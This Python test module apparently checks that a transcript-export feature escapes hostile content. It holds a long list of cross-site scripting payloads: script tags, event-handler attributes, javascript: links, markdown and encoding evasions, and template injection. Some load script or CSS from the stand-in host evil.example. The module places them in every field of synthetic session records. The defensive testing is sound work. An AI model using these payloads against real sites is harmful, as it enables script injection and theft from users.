"""Texts of hostile transcripts that would run, load or send something if they were not escaped."""

from __future__ import annotations

import json
from html.parser import HTMLParser

from tests.builders import (
    Record,
    assistant,
    attachment,
    boundary,
    call,
    custom_title,
    result,
    summary,
    system,
    user,
)
from tests.parts.share.export.conftest import PNG_BASE64, link_records

ATTACK_SCRIPT = "window.pwned=1"

ALLOWED_ELEMENTS = frozenset(
    """html head meta title style body header span div input output button nav details summary p ol ul li a main section
    h1 h4 h5 h6 dl dt dd article b time code pre img em strong s table thead tbody tr th td blockquote br hr footer
    script""".split()  # noqa: SIM905 - shorter to read
)
"""The elements that a page may have, whatever the transcript contains."""

ATTACK_TEXTS = (
    f"<script>{ATTACK_SCRIPT}</script>",
    f"<ScRiPt src=//evil.example/x.js>{ATTACK_SCRIPT}</sCrIpT>",
    f'"><script>{ATTACK_SCRIPT}</script>',
    f"'><script>{ATTACK_SCRIPT}</script>",
    f"</script><script>{ATTACK_SCRIPT}</script>",
    f"</title><script>{ATTACK_SCRIPT}</script>",
    f"</style><script>{ATTACK_SCRIPT}</script>",
    f"</textarea><script>{ATTACK_SCRIPT}</script>",
    f"--><script>{ATTACK_SCRIPT}</script>",
    f"]]><script>{ATTACK_SCRIPT}</script>",
    f"</code></pre></div></details></main><script>{ATTACK_SCRIPT}</script>",
    f"<img src=x onerror={ATTACK_SCRIPT}>",
    f'<img src="x" onerror="{ATTACK_SCRIPT}">',
    f"<img/src/onerror={ATTACK_SCRIPT}>",
    f"<svg onload={ATTACK_SCRIPT}>",
    f"<svg><script>{ATTACK_SCRIPT}</script></svg>",
    f"<svg><animate onbegin={ATTACK_SCRIPT} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml;base64,{PNG_BASE64}"/>',
    f'<math><mi//xlink:href="javascript:{ATTACK_SCRIPT}">',
    f"<body onload={ATTACK_SCRIPT}>",
    f"<details open ontoggle={ATTACK_SCRIPT}>",
    f"<video><source onerror={ATTACK_SCRIPT}>",
    f"<audio src onloadstart={ATTACK_SCRIPT}>",
    f"<input autofocus onfocus={ATTACK_SCRIPT}>",
    f"<select autofocus onfocus={ATTACK_SCRIPT}>",
    f"<marquee onstart={ATTACK_SCRIPT}>",
    f'<iframe src="javascript:{ATTACK_SCRIPT}"></iframe>',
    f'<iframe srcdoc="<script>parent.{ATTACK_SCRIPT}</script>"></iframe>',
    f'<object data="javascript:{ATTACK_SCRIPT}"></object>',
    f'<embed src="javascript:{ATTACK_SCRIPT}">',
    f'<a href="javascript:{ATTACK_SCRIPT}">x</a>',
    f'<form action="javascript:{ATTACK_SCRIPT}"><button>x</button></form>',
    f'<base href="javascript:{ATTACK_SCRIPT}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{ATTACK_SCRIPT}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/x)}</style>",
    f'<div style="background:url(javascript:{ATTACK_SCRIPT})">',
    f"<template><script>{ATTACK_SCRIPT}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={ATTACK_SCRIPT}>">',
    f"<x contenteditable onblur={ATTACK_SCRIPT} autofocus tabindex=0>",
    f"[x](javascript:{ATTACK_SCRIPT})",
    f"[x](JaVaScRiPt:{ATTACK_SCRIPT})",
    f"[x](java&#x0a;script:{ATTACK_SCRIPT})",
    f"[x](\x01javascript:{ATTACK_SCRIPT})",
    f"[x](data:text/html,<script>{ATTACK_SCRIPT}</script>)",
    f"[x](vbscript:{ATTACK_SCRIPT})",
    f"<javascript:{ATTACK_SCRIPT}>",
    f"[x][y]\n\n[y]: javascript:{ATTACK_SCRIPT}",
    f'![x](https://evil.example/x.png "onerror={ATTACK_SCRIPT}")',
    f'![x" onerror="{ATTACK_SCRIPT}](x)',
    f'[x](https://evil.example/" onclick="{ATTACK_SCRIPT})',
    f"`<img src=x onerror={ATTACK_SCRIPT}>`",
    f'```html" onload="{ATTACK_SCRIPT}\n<script>{ATTACK_SCRIPT}</script>\n```',
    f"```\n</code></pre><script>{ATTACK_SCRIPT}</script>",
    f"| <img src=x onerror={ATTACK_SCRIPT}> |\n|---|\n| <script>{ATTACK_SCRIPT}</script> |",
    f"\u202e<script>{ATTACK_SCRIPT}</script>\u202c",
    f"\x00<script>{ATTACK_SCRIPT}</script>",
    f"\ud83d<script>{ATTACK_SCRIPT}</script>",
    f"+ADw-script+AD4-{ATTACK_SCRIPT}+ADw-/script+AD4-",
    f"&lt;script&gt;{ATTACK_SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{ATTACK_SCRIPT}&#60;/script&#62;",
    f"${{{ATTACK_SCRIPT}}} {{{{constructor.constructor('{ATTACK_SCRIPT}')()}}}}",
    f"javascript:{ATTACK_SCRIPT}",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
)


def hostile_records(*vectors: str) -> list[Record | bytes]:
    """Return a session with these texts in every field."""
    rows = link_records([row for vector in vectors for row in _records_with_text(vector)])
    for place, row in enumerate(rows):
        if row.get("subtype") == "compact_boundary":
            rows[place] = {**row, "parentUuid": None, "logicalParentUuid": rows[place - 1]["uuid"]}
    names = [
        custom_title(vectors[0]),
        {"type": "summary", "summary": vectors[0]},
        {"type": "tag", "tag": vectors[0]},
    ]
    return [json.dumps(row).encode() for row in (*rows, *names)]


def _records_with_text(vector: str) -> list[Record]:
    image = {
        "type": "image",
        "source": {"type": "base64", "media_type": vector, "data": PNG_BASE64},
    }
    other = {
        "type": "image",
        "source": {"type": "base64", "media_type": "image/png", "data": vector},
    }
    todos = [{"content": vector, "status": vector, "activeForm": vector}]
    return [
        user(vector, uuid="", gitBranch=vector, version=vector, slug=vector),
        assistant([{"type": "thinking", "thinking": vector, "signature": vector}], uuid="", ts=1, model=vector),
        assistant([{"type": "text", "text": vector}, {"type": vector, vector: vector}], uuid="", ts=2, tokens=100),
        assistant([call("c1", "Bash", command=vector, description=vector)], uuid="", ts=3),
        user([result("c1", vector)], uuid="", ts=4, toolUseResult={"agentId": vector, "stdout": vector}),
        assistant([call("c2", vector, **{vector: vector, "file_path": vector})], uuid="", ts=5),
        user([result("c2", [{"type": "text", "text": vector}, image, other], is_error=True)], uuid="", ts=6),
        assistant([call("c3", "Edit", file_path=vector, old_string=f"{vector}\na", new_string=vector)], uuid="", ts=7),
        assistant([call("c4", "Write", file_path=f"{vector}.py", content=f"def f(): '{vector}'")], uuid="", ts=8),
        assistant([call("c5", "TodoWrite", todos=todos)], uuid="", ts=9),
        assistant([call("c6", "ExitPlanMode", plan=vector)], uuid="", ts=10),
        assistant([call("c7", "Read", file_path=f"/x/{vector}.html")], uuid="", ts=11),
        user([result("c7", f"     1→{vector}\n     2→{vector}")], uuid="", ts=12),
        user([result("none", vector)], uuid="", ts=13),
        {**boundary(uuid="", ts=14), "compactMetadata": {"trigger": vector, "preTokens": 1}},
        summary(vector, uuid="", parent=None, ts=15),
        system(vector, uuid="", content=vector, ts=16),
        system("informational", uuid="", content=f"{vector}\n{vector}", ts=17),
        attachment(vector, uuid="", parent=None, ts=18),
        assistant([{"type": "text", "text": vector}], uuid="", ts=19, isApiErrorMessage=True),
        user(f"<local-command-stdout>{vector}</local-command-stdout>", uuid="", ts=20),
        user([{"type": "text", "text": f"{vector} {vector}"}, image, other], uuid="", ts=21),
        assistant("end", uuid="", ts=22, timestamp=vector),
    ]  # fmt: skip


class PageParts(HTMLParser):
    """The elements of a page, and the attributes in it that run code or load an address."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.suspect: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Add an element and its suspicious attributes."""
        self.elements.add(tag)
        for name, value in attrs:
            leads = name in {"href", "src"} and not (value or "").startswith(
                ("#", "data:image/png;base64,", "https://")
            )
            if leads or name.startswith("on") or name == "style":
                self.suspect.append(f"{tag} {name}={value}")
